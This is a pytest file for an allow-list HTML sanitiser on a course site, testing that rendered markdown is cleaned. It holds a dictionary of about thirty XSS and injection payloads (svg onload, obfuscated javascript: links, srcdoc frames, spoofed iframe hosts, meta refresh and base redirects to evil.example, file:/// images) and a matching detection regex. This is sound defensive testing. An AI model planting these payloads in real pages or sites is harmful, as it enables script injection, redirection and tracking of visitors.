"""The allow-list sanitiser, tried with what a hostile contributor would write."""

from __future__ import annotations

import re

import markdown
import pytest

from oer.safety.page_html import clean_page_html
from oer.safety.report import removal_problem

HOSTS = ["www.youtube-nocookie.com", "player.vimeo.com"]

# Each of these ran script, changed where the page loads from, or framed another host.
HOSTILE = {
    "svg onload": "<svg/onload=alert(1)>",
    "handler on the next line": "<details open\nontoggle=alert(1)>x</details>",
    "tab in javascript:": '<a href="java&#9;script:alert(1)">x</a>',
    "entity javascript:": '<a href="&#106;avascript:alert(1)">x</a>',
    "upper-case scheme": '<a href="JaVaScRiPt:alert(1)">x</a>',
    "markdown javascript: link": "[x](javascript:alert(1))",
    "base element": '<base href="https://evil.example/">',
    "object": '<object data="https://evil.example/x.swf"></object>',
    "embed": '<embed src="https://evil.example/x.swf">',
    "form": '<form action="https://evil.example/"><input name="p"></form>',
    "meta refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    "style element": "<style>.oer-credits{display:none}</style>",
    "stylesheet link": '<link rel="stylesheet" href="https://evil.example/x.css">',
    "data: link": '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    "look-alike frame host": '<iframe src="https://evil.example\\@player.vimeo.com/x"></iframe>',
    "frame host as prefix": '<iframe src="https://player.vimeo.com.evil.example/x"></iframe>',
    "frame over http": '<iframe src="http://player.vimeo.com/x"></iframe>',
    "frame with a user part": '<iframe src="https://player.vimeo.com@evil.example/x"></iframe>',
    "srcdoc frame": '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "attribute list handler": "Text\n{ onclick=alert(1) }",
    "file image": '<img src="file:///etc/hostname" alt="x">',
    "local network image": '<img src="http://127.0.0.1:8000/x.png" alt="x">',
    "vbscript": '<a href="vbscript:msgbox(1)">x</a>',
    "script": "<script>alert(1)</script>",
    "svg with script": "<svg><script>alert(1)</script></svg>",
    "math with href": '<math href="javascript:alert(1)"><mi>x</mi></math>',
    "style attribute": '<p style="background:url(https://evil.example/t.png)">x</p>',
    "protocol-relative image": '<img src="//evil.example/pixel.png" alt="x">',
    "theme settings clobbered": '<p id="__config">{"search": "evil.js"}</p>',
}
_RUNS = re.compile(r"\son[a-z]+\s*=|javascript:|vbscript:|data:text|<script|<base|<object"
                   r"|<embed|<form|<meta|<style|<link|srcdoc|evil\.example|file:|127\.0\.0\.1"
                   r'|id="__',
                   re.IGNORECASE)  # fmt: skip


def render(text: str) -> str:
    return markdown.markdown(text, extensions=["attr_list", "md_in_html", "tables"])


@pytest.mark.parametrize("case", HOSTILE)
def test_nothing_that_runs_or_reaches_out_survives(case: str) -> None:
    cleaned = clean_page_html(render(HOSTILE[case]), HOSTS)

    assert not _RUNS.search(cleaned.html), cleaned.html
    assert cleaned.removals, "a removal must be reported"


@pytest.mark.parametrize("case", HOSTILE)
def test_each_removal_names_the_source_line(case: str) -> None:
    source = f"# Page\n\nIntro.\n\n{HOSTILE[case]}\n"
    cleaned = clean_page_html(render(source), HOSTS)

    problems = [removal_problem(r, source, "docs/p.es.md") for r in cleaned.removals]

    # The markup starts at line 5; a handler may sit on a line of its own below its tag.
    markup_lines = range(5, 6 + HOSTILE[case].count("\n"))
    assert any(problem.line in markup_lines for problem in problems), [str(p) for p in problems]
    assert all("Fix:" in str(problem) for problem in problems)


def test_what_the_course_writes_is_kept() -> None:
    page = render(
        "# Title\n\n| a | b |\n|:--|--:|\n| 1 | 2 |\n\n"
        "[page](values.md) [site](https://example.org/) [mail](mailto:a@example.org)\n\n"
        '![A tutor](img/tutor.jpg)\n\nSaid <q lang="en">train first</q>.\n\n'
        '<iframe src="https://www.youtube-nocookie.com/embed/x" title="Video"></iframe>\n'
    )

    cleaned = clean_page_html(page, HOSTS)

    assert cleaned.removals == ()
    for kept in ('style="text-align:left"', 'href="values.md"', 'href="mailto:a@example.org"',
                 'src="img/tutor.jpg"', 'lang="en"', "youtube-nocookie.com/embed/x"):  # fmt: skip
        assert kept in cleaned.html.replace("; ", ";").replace(": ", ":"), kept


def test_text_that_looks_like_markup_stays_text() -> None:
    cleaned = clean_page_html(render("Write `<script>` in code.\n\n    <b onclick=x>\n"), HOSTS)

    assert cleaned.removals == ()
    assert "&lt;script&gt;" in cleaned.html and "&lt;b onclick=x&gt;" in cleaned.html
